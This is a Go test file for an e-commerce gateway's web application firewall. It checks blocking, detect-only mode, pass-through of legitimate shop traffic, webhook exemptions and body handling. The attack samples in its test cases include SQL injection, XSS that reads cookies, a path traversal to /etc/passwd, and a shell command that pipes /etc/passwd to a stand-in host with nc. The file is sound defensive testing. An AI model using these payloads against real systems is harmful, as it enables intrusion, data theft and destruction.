package gateway

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"errors"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"

	productv1 "github.com/commercestack/commercestack/api/gen/commerce/product/v1"
)

const injection = "1' UNION SELECT password,email FROM users WHERE '1'='1' -- "

func guarded(mode string) func(*Options) { return func(o *Options) { o.Config.WAF = mode } }

func TestWAFBlocksAttacks(t *testing.T) {
	t.Parallel()
	behind := newShop(t)
	d := newDoor(t, behind, guarded("block"))
	query := func(value string) string { return "/api/v1/products?q=" + url.QueryEscape(value) }
	for name, test := range map[string]struct{ method, path, body, contentType string }{
		"SQL injection in a query":    {"GET", query(injection), "", ""},
		"script in a query":           {"GET", query(`<script>alert(document.cookie)</script>`), "", ""},
		"a shell command in a query":  {"GET", query(`; cat /etc/passwd | nc evil.example 1`), "", ""},
		"SQL injection in JSON":       {"POST", "/api/v1/orders", `{"items":[],"email":"` + injection + `"}`, ""},
		"SQL injection over Connect":  {"POST", "/commerce.product.v1.ProductService/ListProducts", `{"q":"` + injection + `"}`, ""},
		"script in a form":            {"POST", "/admin/x", "name=" + url.QueryEscape(`<script>alert(1)</script>`), "application/x-www-form-urlencoded"},
		"a query of a page":           {"GET", "/admin/?q=" + url.QueryEscape(injection), "", ""},
		"another folder in the query": {"GET", query("../../../../etc/passwd"), "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			var headers []string
			if test.contentType != "" {
				headers = append(headers, "Content-Type: "+test.contentType)
			}
			got := d.call(t, test.method, test.path, test.body, headers...)
			if got.status != http.StatusForbidden || !strings.Contains(got.text, "firewall") {
				t.Errorf("%d %s", got.status, got.text)
			}
		})
	}
	if !strings.Contains(d.log.String(), "the WAF matched a request") || strings.Contains(d.log.String(), "UNION") {
		t.Error("the match is not logged, or with what was sent")
	}
}

func TestWAFDetectsOnly(t *testing.T) {
	t.Parallel()
	d := newDoor(t, newShop(t), guarded("detect"))
	if got := d.call(t, "GET", "/api/v1/products?q="+url.QueryEscape(injection), ""); got.status != 200 {
		t.Errorf("%d %s", got.status, got.text)
	}
	if !strings.Contains(d.log.String(), `"blocked":false`) {
		t.Error("the match is not logged")
	}
	off := newDoor(t, newShop(t), guarded("off"))
	if got := off.call(t, "GET", "/api/v1/products?q="+url.QueryEscape(injection), ""); got.status != 200 || strings.Contains(off.log.String(), "WAF") {
		t.Errorf("off: %d", got.status)
	}
}

func TestWAFLetsTheShopWork(t *testing.T) {
	t.Parallel()
	behind := newShop(t)
	d := newDoor(t, behind, guarded("block"))
	admin := d.bearer(t, userID, time.Hour, "*")
	picture := make([]byte, 300<<10)
	if _, err := rand.Read(picture); err != nil {
		t.Fatal(err)
	}
	encoded := base64.StdEncoding.EncodeToString(picture)
	binary, err := proto.Marshal(&productv1.CreateProductRequest{Product: &productv1.Product{Name: "Shirt", Description: string(bytes.Repeat([]byte("select all from \x01 "), 50))}})
	if err != nil {
		t.Fatal(err)
	}
	for name, test := range map[string]struct{ method, path, body, contentType string }{
		"a search":      {"GET", "/api/v1/products?q=" + url.QueryEscape(`men's shirt & tie "blue" 100% cotton`) + "&orderBy=price+desc&pageSize=20", "", ""},
		"an order":      {"POST", "/api/v1/orders", `{"items":[{"productId":"` + userID + `","quantity":2}],"email":"o'brien+shop@example.com","shippingAddress":{"recipient":"Conor O'Brien","line1":"12 St. John's Road; Flat #3","city":"Dún Laoghaire","countryCode":"IE"}}`, ""},
		"a description": {"POST", "/api/v1/products", `{"name":"Table & chairs – select your set","description":"Drop by our store; choose from 3 sizes (S, M, L) and order by Friday.\nCare: wash at 40°, don't tumble dry. 100% cotton -- made where it's grown!","price":{"currencyCode":"EUR","amountMinor":"1999"}}`, ""},
		"a login":       {"POST", "/api/v1/auth/login", `{"email":"a@example.com","password":"' OR 1=1; DROP TABLE users; --<script>"}`, ""},
		"Connect JSON":  {"POST", "/commerce.product.v1.ProductService/ListProducts", `{"q":"shirt"}`, ""},
		"Connect proto": {"POST", "/commerce.product.v1.ProductService/CreateProduct", string(binary), "application/proto"},
		"a picture":     {"POST", "/api/v1/products/" + userID + "/images", string(picture), "image/png"},
		"a JSON picture": {
			"POST", "/commerce.product.v1.ProductService/AddProductImage", `{"productId":"` + userID + `","image":{"contentType":"image/png","data":"` + encoded + `"}}`, "",
		},
		"a small JSON picture": {
			"POST", "/commerce.product.v1.ProductService/AddProductImage", `{"productId":"` + userID + `","image":{"contentType":"image/png","data":"` + encoded[:40<<10] + `"}}`, "",
		},
		"a patch":  {"PATCH", "/api/v1/products/" + userID, `{"name":"x"}`, ""},
		"a delete": {"DELETE", "/api/v1/products/" + userID, "", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			headers := []string{admin, "User-Agent: Mozilla/5.0", "Accept: application/json", "Idempotency-Key: 7c5a4c1e-9d0f-4f1e-8a51-0a4a0f0f0f0f", `If-Match: "3"`}
			if test.contentType != "" {
				headers = append(headers, "Content-Type: "+test.contentType)
			}
			if got := d.call(t, test.method, test.path, test.body, headers...); got.status == http.StatusForbidden || got.status == http.StatusUnauthorized {
				t.Errorf("%d %s\n%s", got.status, got.text, d.log.String())
			}
		})
	}
}

func TestWAFLeavesSignedWebhooksAlone(t *testing.T) {
	t.Parallel()
	d := newDoor(t, newShop(t), guarded("block"))
	got := d.call(t, "POST", "/api/v1/billing/webhooks/stripe", `{"description":"`+injection+`"}`, "Stripe-Signature: t=1,v1=ab")
	if got.status == http.StatusForbidden {
		t.Errorf("a payment is refused for its wording: %s", got.text)
	}
}

func TestWAFKeepsTheBody(t *testing.T) {
	t.Parallel()
	f, err := newFirewall("block", slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	for _, size := range []int{0, 1, wafBodyBytes - 20, wafBodyBytes, wafBodyBytes + 1, 3 * wafBodyBytes} {
		body := `{"a":"` + strings.Repeat("x", size) + `"}`
		r := httptest.NewRequest(http.MethodPost, "http://shop.example/api/v1/orders", io.NopCloser(strings.NewReader(body)))
		r.Header.Set("Content-Type", "application/json")
		r.Header.Set("User-Agent", "test")
		r.Header.Set("Accept", "*/*")
		r.ContentLength = -1
		if err := f.inspect(r, "192.0.2.1"); err != nil {
			t.Errorf("%d bytes: %v", size, err)
		}
		if got, err := io.ReadAll(r.Body); err != nil || string(got) != body {
			t.Errorf("of %d bytes the component reads %d (%v)", len(body), len(got), err)
		}
	}
	broken := httptest.NewRequest(http.MethodPost, "/", io.NopCloser(io.MultiReader(strings.NewReader("{"), failing{})))
	broken.Header.Set("Content-Type", "application/json")
	if err := f.inspect(broken, "192.0.2.1"); err == nil || !strings.Contains(err.Error(), "could not be read") {
		t.Errorf("a body that breaks off: %v", err)
	}
}

type failing struct{}

func (failing) Read([]byte) (int, error) { return 0, errors.New("connection lost") }

func TestHostOf(t *testing.T) {
	t.Parallel()
	for host, want := range map[string]string{"shop.example:443": "shop.example", "shop.example": "shop.example", "[::1]:80": "::1", "a b%": "a b%"} {
		if got := hostOf(&http.Request{Host: host}); got != want {
			t.Errorf("%q: %q", host, got)
		}
	}
}
